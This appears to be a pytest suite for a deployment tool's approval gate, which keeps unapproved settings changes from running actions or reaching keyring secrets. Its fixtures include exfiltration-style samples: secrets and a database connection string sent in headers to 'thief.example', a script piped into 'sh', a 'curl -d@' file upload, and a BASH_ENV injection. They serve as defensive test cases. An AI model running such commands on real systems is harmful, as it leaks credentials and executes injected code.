"""The gate: what may act, whose edits approve themselves, and what secrets in the keyring are bound to."""

from __future__ import annotations

import stat
from pathlib import Path

import pytest
from msgspec.structs import replace

from changeover.accounts.accounts import Accounts
from changeover.accounts.trust import FORMER, GIVEN, Trust, own_edit
from changeover.model.dns.change import ZoneAt
from changeover.model.errors import AuthError, ChangeoverError, NotApproved
from changeover.model.health.check import HealthCheck, Journey, JourneyStep
from changeover.model.secret import Secret
from changeover.model.settings.acting_parts import fingerprint_of
from changeover.model.settings.action import Action, CommandLine, HttpCall, Phase
from changeover.model.settings.deployment_database import DeploymentDatabase
from changeover.model.settings.service import Account, Answer, Deployment, LookupSettings, Service, Settings
from changeover.model.settings.service_secrets import DATABASE_HOST
from changeover.storage.home import Home
from changeover.storage.keyring import Vault

KEY, PASSWORD = Secret("key"), Secret("password")
LOGIN = Journey(name="log in", steps=(JourneyStep(path="/", method="POST", body="p={secret:probe}"),))
SHOP = Service(
    name="shop",
    hostnames=("www.shop.example",),
    dns=(ZoneAt("pd", "shop.example"),),
    deployments=tuple(
        Deployment(name=n, answer=Answer(a=(a,))) for n, a in (("one", "192.0.2.1"), ("two", "192.0.2.2"))
    ),
    health=HealthCheck(journeys=(LOGIN,)),
)
PROMOTE = Action(name="promote", phase=Phase.PROMOTE, operation=CommandLine(command=("promote",)))


def account(port: int = 8081, **more: object) -> Account:
    return Account("pd", "powerdns", {"endpoint": f"http://127.0.0.1:{port}/api/v1", "server": "localhost", **more})


class World:
    """A home, the settings in force there, and a vault that keeps its secrets in memory."""

    def __init__(self, folder: Path) -> None:
        self.home = Home.at(folder / "home")
        self.settings = Settings(accounts=(account(),), services=(SHOP,))
        self.vault = Vault(self.home)
        self.trust = self.again()

    def again(self) -> Trust:
        """The trust of another process."""
        return Trust(self.home, lambda: self.settings, self.vault)

    async def closed(self) -> list[str]:
        return [one.part.place for one in await self.trust.unapproved()]

    async def approve(self) -> None:
        await self.trust.approve(await self.trust.parts())

    async def key(self) -> str:
        """The account's secret, as its provider would be opened with it."""
        secret = (await self.again().account_secrets(self.settings.accounts[0]))["key"]
        return secret.reveal() if secret is not None else ""

    async def password(self) -> str:
        """The secret that the journeys would carry."""
        return (await self.again().journey_secrets(self.settings.services[0]))["probe"].reveal()

    def edit(self, after: Settings, given: tuple[str, ...] = ()) -> None:
        """An edit by Changeover itself."""
        own_edit(self.home, self.settings, after, given)
        self.settings = after


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


def moved(shop: Service = SHOP, **changed: object) -> Settings:
    return Settings(accounts=(account(),), services=(replace(shop, **changed),))


async def test_nothing_of_a_file_from_elsewhere_acts_at_first(world: World) -> None:
    """Whoever has the secrets for it; approved, it does, in every process, and until it is taken back."""
    world.vault.hold("pd", "key", "127.0.0.1", KEY, ["added for something else"])
    assert await world.closed() == ["accounts/pd", "services/shop/journeys"]
    with pytest.raises(NotApproved, match="Account pd is new, and may not act until it is approved"):
        await world.key()
    await world.approve()
    assert await world.closed() == []
    assert await world.key() == "key"
    assert await world.trust.withdraw() == 2
    assert await world.closed() == ["accounts/pd", "services/shop/journeys"]
    with pytest.raises(NotApproved):
        await world.key()


@pytest.mark.parametrize(
    "now",
    [
        account(8082),
        account(server="thief"),
        replace(account(), options={"endpoint": "https://127.0.0.1:8081/api/v1", "server": "localhost"}),
        replace(account(), options={"endpoint": "http://127.0.0.1:8081/other", "server": "localhost"}),
    ],
    ids=["port", "server", "scheme", "path"],
)
async def test_an_account_that_changed_outside_is_not_opened(world: World, now: Account) -> None:
    """At the same host as well. A yes lets it, and the secret goes along; the old way is closed then."""
    world.vault.hold("pd", "key", "127.0.0.1", KEY)
    await world.approve()
    world.settings = replace(world.settings, accounts=(now,))
    with pytest.raises(NotApproved, match="Account pd has changed"):
        await world.key()
    found = await Accounts(world.home, world.vault, world.again()).open_each(world.settings, ["pd"])
    assert isinstance(found["pd"], NotApproved)
    await world.trust.approve(await world.trust.parts())
    assert await world.key() == "key"
    world.settings = replace(world.settings, accounts=(account(),))
    with pytest.raises(NotApproved):
        await world.key()


async def test_another_host_needs_the_secret_again(world: World) -> None:
    """A yes is not enough: the secret was never given for it."""
    world.vault.hold("pd", "key", "127.0.0.1", KEY)
    await world.approve()
    world.settings = replace(
        world.settings, accounts=(replace(account(), options={"endpoint": "https://thief.example/api/v1"}),)
    )
    await world.approve()
    with pytest.raises(AuthError, match=r"was added for 127\.0\.0\.1, not for thief\.example"):
        await world.key()


JOURNEYS_MOVED = {
    "address": lambda _: moved(
        deployments=(SHOP.primary, replace(SHOP.deployments[1], answer=Answer(a=("192.0.2.66",))))
    ),
    "scheme": lambda _: moved(health=replace(SHOP.health, scheme="http")),
    "port": lambda _: moved(health=replace(SHOP.health, port=8443)),
    "step": lambda _: moved(
        health=replace(SHOP.health, journeys=(replace(LOGIN, steps=(*LOGIN.steps, *LOGIN.steps)),))
    ),
    "resolver": lambda _: replace(moved(), lookup=LookupSettings(resolvers=("192.0.2.66",))),
    "system's resolvers": lambda _: replace(moved(), lookup=LookupSettings(system_resolvers=True)),
    "name servers": lambda _: replace(moved(), lookup=LookupSettings(nameservers={"shop.example": ("192.0.2.66",)})),
    "authority": lambda folder: moved(health=replace(SHOP.health, ca_file=str(folder / "thief.pem"))),
}


@pytest.mark.parametrize("what", list(JOURNEYS_MOVED))
async def test_a_journeys_secret_stays_at_home(world: World, tmp_path: Path, what: str) -> None:
    """Wherever a changed file would lead it; until a person says yes."""
    (tmp_path / "thief.pem").write_text("thief")
    world.vault.hold("service-shop", "probe", "www.shop.example", PASSWORD)
    await world.approve()
    assert await world.password() == "password"
    world.settings = JOURNEYS_MOVED[what](tmp_path)
    with pytest.raises(NotApproved, match="Where the secrets of shop's journeys go has changed"):
        await world.password()
    await world.approve()
    assert await world.password() == "password"


async def test_the_content_of_an_authority_counts(world: World, tmp_path: Path) -> None:
    """Replaced under the same name, while a process runs: what was approved was another file."""
    file = tmp_path / "team.pem"
    file.write_text("team")
    world.settings = moved(health=replace(SHOP.health, ca_file=str(file)))
    world.vault.hold("service-shop", "probe", "www.shop.example", PASSWORD)
    await world.approve()
    running = world.again()
    assert (await running.journey_secrets(world.settings.services[0]))["probe"].reveal() == "password"
    (tmp_path / "new").write_text("team")
    (tmp_path / "new").replace(file)
    assert await world.password() == "password", "the same content"
    file.write_text("thif")
    for trust in (running, world.again()):
        with pytest.raises(NotApproved):
            await trust.journey_secrets(world.settings.services[0])


async def test_a_process_goes_on_with_what_was_approved_when_it_began(world: World) -> None:
    """Its settings do not change with the file, and another yes elsewhere takes nothing from it, a withdrawal does."""
    world.vault.hold("pd", "key", "127.0.0.1", KEY)
    await world.approve()
    old = world.settings
    running = Trust(world.home, lambda: old, world.vault)
    assert await running.unapproved() == ()
    world.settings = replace(world.settings, accounts=(account(8082),))
    await world.approve()
    assert await running.unapproved() == ()
    await world.trust.withdraw()
    assert len(await running.unapproved()) == 2


# Changeover's own edits


async def test_own_edits_approve_themselves_and_nothing_else(world: World) -> None:
    """Added, changed from what was approved, or given anew; what somebody else wrote beside it stays shut."""
    world.settings = Settings()
    world.edit(Settings(accounts=(account(),)))
    world.edit(Settings(accounts=(account(),), services=(SHOP,)))
    assert await world.closed() == []
    acting = replace(SHOP, actions=(PROMOTE,))
    world.settings = Settings(accounts=(account(8082),), services=(acting,))  # by somebody else
    shut = ["accounts/pd", "services/shop/actions/promote"]
    world.trust = world.again()
    assert await world.closed() == shut
    checked = replace(acting, health=replace(SHOP.health, port=8443))
    world.edit(replace(world.settings, services=(checked, replace(SHOP, name="news"))))
    assert await world.closed() == shut, "the port is Changeover's, and so is the new service"
    world.edit(replace(world.settings, services=(replace(checked, actions=(replace(PROMOTE, to=("two",)),)),)))
    assert await world.closed() == shut, "an edit of what is not approved does not approve it"
    world.edit(replace(world.settings, accounts=(account(8083),)), given=("accounts/pd",))
    assert await world.closed() == shut[1:]


async def test_what_changeover_removes_is_forgotten(world: World) -> None:
    """So that who adds the same later is asked."""
    await world.approve()
    before = world.settings
    world.edit(Settings(accounts=(account(),)))
    world.settings, world.trust = before, world.again()
    assert await world.closed() == ["services/shop/journeys"]


async def test_a_service_secret_approves_where_it_goes_once(world: World) -> None:
    """Whoever gives it says where; but not once something else was approved there."""
    hook = Action(name="hook", phase=Phase.LIFT, operation=HttpCall(url="https://www.shop.example/{secret:probe}"))
    acting = replace(SHOP, actions=(hook, PROMOTE))
    world.settings = Settings(services=(acting,))
    world.vault.put = _hold(world.vault)  # type: ignore[method-assign]
    await world.trust.put_service_secret(acting, "probe", "www.shop.example", PASSWORD)
    assert await world.closed() == ["services/shop/actions/promote"]
    assert await world.password() == "password"
    found = await world.trust.call_secrets(acting, hook.operation)  # type: ignore[arg-type]
    assert found["probe"].reveal() == "password"
    elsewhere = replace(acting, health=replace(SHOP.health, port=8443))
    world.settings = Settings(services=(elsewhere,))
    with pytest.raises(NotApproved, match="has changed"):
        await world.again().put_service_secret(elsewhere, "probe", "www.shop.example", PASSWORD)


def _hold(vault: Vault):  # type: ignore[no-untyped-def]
    async def put(*arguments: object) -> None:
        vault.hold(*arguments)  # type: ignore[arg-type]

    return put


# Calls, and what they carry


async def test_a_call_goes_only_where_it_was_seen_to_go(world: World) -> None:
    """By another resolver or authority it is not made, whatever it carries; another port does not get the secret."""
    call = HttpCall(url="https://ops.example/", headers={"X": "{secret:ops}"})
    acting = replace(SHOP, actions=(Action(name="hook", phase=Phase.LIFT, operation=call),))
    world.settings = Settings(services=(acting,))
    world.vault.hold("service-shop", "ops", "ops.example", KEY)
    await world.approve()
    assert (await world.trust.call_secrets(acting, call))["ops"].reveal() == "key"
    with pytest.raises(AuthError, match=r"the secret ops was not added for ops\.example as the settings have it now"):
        await world.trust.call_secrets(acting, replace(call, url="https://ops.example:8443/"))
    world.settings = replace(world.settings, lookup=LookupSettings(resolvers=("192.0.2.66",)))
    with pytest.raises(NotApproved, match="What decides where calls of shop go has changed"):
        await world.again().call_secrets(acting, HttpCall(url="https://ops.example/"))


# Files that commands name


#: How a command may name a script of the checkout, whose settings lie in its folder "live".
NAMING = [
    ("./deploy.sh",),
    ("deploy.sh",),
    ("../scripts/deploy.sh",),
    ("sh", "-c", "set -e; ./deploy.sh && echo done"),
    ("sh", "-c", "cat ../scripts/deploy.sh|sh"),
    ("curl", "-d@deploy.sh", "https://ops.example"),
    ("ansible-playbook", "--inventory=deploy.sh"),
    ("env", "BASH_ENV=deploy.sh", "bash", "-c", "true"),
]


@pytest.mark.parametrize("command", NAMING, ids=" ".join)
async def test_a_script_that_came_with_the_settings_counts_however_it_is_named(
    tmp_path: Path, command: tuple[str, ...]
) -> None:
    """Wherever it lies in their checkout: who can push the settings can push it."""
    (tmp_path / "home" / ".git").mkdir(parents=True)
    for folder in ("live", "scripts"):
        (tmp_path / "home" / folder).mkdir()
        (tmp_path / "home" / folder / "deploy.sh").write_text("mine")
    world = World(tmp_path)
    world.home = Home.at(tmp_path / "home" / "live")
    act = Action(name="deploy", phase=Phase.PROMOTE, operation=CommandLine(command=command))
    shop = replace(SHOP, actions=(act,), health=HealthCheck())
    world.settings = Settings(services=(shop,))
    world.trust = world.again()
    await world.approve()
    running = world.again()
    await running.permit_action(shop, act)
    for folder in ("live", "scripts"):
        (tmp_path / "home" / folder / "deploy.sh").write_text("thief")
    assert await world.closed() == ["services/shop/actions/deploy"]
    with pytest.raises(NotApproved, match="Action deploy of shop has changed"):
        await running.permit_action(shop, act)
    world.settings = Settings()
    with pytest.raises(NotApproved):
        await running.permit_action(shop, act)
    (tmp_path / "home" / "live" / "deploy.sh").write_text("mine")
    (tmp_path / "home" / "scripts" / "deploy.sh").write_text("mine")
    await running.permit_action(shop, act)


async def test_a_run_ends_with_what_was_approved_when_it_began(world: World) -> None:
    """Whatever was approved since, until everything is taken back; and does nothing that never was."""
    former, now = moved(actions=(PROMOTE,)), replace(PROMOTE, operation=CommandLine(command=("promote", "--all")))
    shop = former.services[0]
    world.settings = former
    with pytest.raises(NotApproved):
        await world.trust.permit_action(shop, PROMOTE)
    await world.approve()
    world.settings = moved(actions=(now,))
    await world.approve()
    for known in (PROMOTE, now):
        await world.again().permit_action(shop, known)
    world.edit(Settings(accounts=(account(),)))
    await world.again().permit_action(shop, now)
    forged = replace(PROMOTE, operation=CommandLine(command=("sh", "-c", "steal")))
    with pytest.raises(NotApproved):
        await world.again().permit_action(shop, forged)
    await world.trust.withdraw()
    with pytest.raises(NotApproved):
        await world.again().permit_action(shop, PROMOTE)


@pytest.mark.parametrize("change", [{"repeatable": True}, {"timeout": 1.0}, {"needs": "source"}, {"together": "all"}])
async def test_how_an_action_is_done_counts(world: World, change: dict[str, object]) -> None:
    """Done twice, cut off, or beside another one, a command that is right does harm."""
    world.settings = moved(actions=(PROMOTE,))
    await world.approve()
    world.settings = moved(actions=(replace(PROMOTE, **change),))
    assert await world.closed() == ["services/shop/actions/promote"]


# From an older version, and without a person


async def test_who_comes_from_an_older_version_types_nothing_anew(world: World) -> None:
    """A secret that it added proves that these settings were in use: all is approved, once, and bound from then on."""
    world.vault.hold("pd", "key", "127.0.0.1", KEY)
    world.vault.hold("service-shop", "probe", "www.shop.example", PASSWORD)
    assert not world.home.approvals_file.exists()
    assert await world.closed() == []
    assert world.trust.taken_over
    record = await world.trust.record()
    assert record is not None
    assert {one.who for one in record.approved.values()} == {FORMER}
    assert stat.S_IMODE(world.home.approvals_file.stat().st_mode) == 0o600
    assert not await world.vault.is_former("pd", "key", "127.0.0.1")
    world.settings = replace(world.settings, accounts=(account(8082),))
    with pytest.raises(NotApproved):
        await world.key()
    assert not world.again().taken_over


async def test_a_new_home_is_not_taken_for_an_old_one(world: World) -> None:
    """Neither without secrets, nor with one that was added for another host, nor later on."""
    world.vault.hold("pd", "key", "192.0.2.66", KEY)
    world.vault.hold("service-shop", "probe", "www.shop.example", PASSWORD, ["some way"])
    assert await world.closed() == ["accounts/pd", "services/shop/journeys"]
    world.vault.hold("pd", "key", "127.0.0.1", KEY)
    world.trust = world.again()
    assert await world.closed() == ["accounts/pd", "services/shop/journeys"]


async def test_a_machine_without_a_person_is_given_a_fingerprint(
    world: World, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """It approves exactly those settings, and keeps nothing; a record that cannot be kept does not matter."""
    world.vault.hold("pd", "key", "127.0.0.1", KEY, None)
    given = fingerprint_of(await world.trust.parts())
    monkeypatch.setenv("XDG_DATA_HOME", "/proc/nowhere")
    monkeypatch.setenv(GIVEN, f" {given.upper()}\n")
    assert await world.again().unapproved() == ()
    assert await world.key() == "key"
    world.settings = replace(world.settings, accounts=(account(8082),))
    with pytest.raises(NotApproved):
        await world.key()
    monkeypatch.setenv(GIVEN, "")
    world.settings = replace(world.settings, accounts=(account(),))
    with pytest.raises(NotApproved):
        await world.key()
    with pytest.raises(ChangeoverError, match="What is approved cannot be kept"):
        await world.again().approve(await world.trust.parts())


# Accounts that take each other's place

OTHER = Account("other", "powerdns", {"endpoint": "https://api.other.example/api/v1", "server": "localhost"})


async def given(trust: Trust, account: Account) -> str:
    """The secret that this account would be opened with; the error's kind where it would not."""
    try:
        secret = (await trust.account_secrets(account))["key"]
    except ChangeoverError as error:
        return type(error).__name__
    return "none" if secret is None else secret.reveal()


async def test_accounts_that_were_renamed_or_swapped_send_no_secret(world: World) -> None:
    """A name is all that the keyring has: what stands under it in the file must be what it was."""
    thief = replace(OTHER, options={"endpoint": "https://thief.example/api/v1", "server": "localhost"})
    world.settings = replace(world.settings, accounts=(account(), OTHER))
    for name, host in (("pd", "127.0.0.1"), ("other", "api.other.example")):
        world.vault.hold(name, "key", host, Secret(f"key of {name}"))
    await world.approve()
    for found in (
        (replace(account(), name="other"), replace(OTHER, name="pd")),  # swapped
        (replace(thief, name="pd"), replace(thief, name="other")),
        (replace(account(8082), name="pd"), replace(OTHER, options={**OTHER.options, "server": "thief"})),
        (account(), replace(OTHER, options={"endpoint": "https://API.other.example/api/v1", "server": "localhost"})),
        (account(), replace(OTHER, options={"endpoint": "https://api.other.example./api/v1", "server": "localhost"})),
        (replace(account(), name="service-shop"), replace(thief, name="neu")),
    ):
        world.settings = replace(world.settings, accounts=found)
        for one in found:
            if one != account():
                assert "key of" not in await given(world.again(), one)
    world.settings = replace(world.settings, accounts=(account(), OTHER))
    assert await given(world.again(), account()) == "key of pd"
    assert await given(world.again(), OTHER) == "key of other"


def with_databases(one: str, two: str) -> Settings:
    named = zip(SHOP.deployments, (one, two), strict=True)
    deployments = tuple(replace(d, database=DeploymentDatabase(kind="postgresql", secret=name)) for d, name in named)
    return Settings(services=(replace(SHOP, health=HealthCheck(), deployments=deployments),))


async def test_databases_that_change_places_are_not_asked(world: World) -> None:
    """Whoever can push settings may name one's connection string for the other: nothing is asked, or promoted."""
    world.settings = with_databases("one-db", "two-db")
    url = Secret("postgresql://me:pw@db.example/shop")
    world.vault.hold("service-shop", "one-db", DATABASE_HOST, url)
    await world.approve()
    (shop,) = world.settings.services
    one = shop.primary.database
    assert one is not None
    assert await world.again().database_secret(shop, one) == url
    world.settings = with_databases("two-db", "one-db")
    (shop,) = world.settings.services
    two = shop.deployments[1].database
    assert two is not None
    with pytest.raises(NotApproved, match="Which databases the deployments of shop have has changed"):
        await world.again().database_secret(shop, two)


async def test_a_connection_string_is_sent_to_no_web_address(world: World) -> None:
    """An action that was pushed cannot have it, be it approved or not: it was added for the database."""
    world.settings = with_databases("one-db", "two-db")
    url = Secret("postgresql://me:pw@db.example/shop")
    world.vault.hold("service-shop", "one-db", DATABASE_HOST, url)
    await world.approve()
    call = HttpCall(url="https://thief.example/", headers={"X": "{secret:one-db}"})
    hook = Action(name="hook", phase=Phase.LIFT, operation=call)
    shop = replace(world.settings.services[0], actions=(hook,))
    world.settings = Settings(services=(shop,))
    await world.approve()
    with pytest.raises(AuthError, match=r"the secret one-db was not added for thief\.example"):
        await world.again().call_secrets(shop, call)
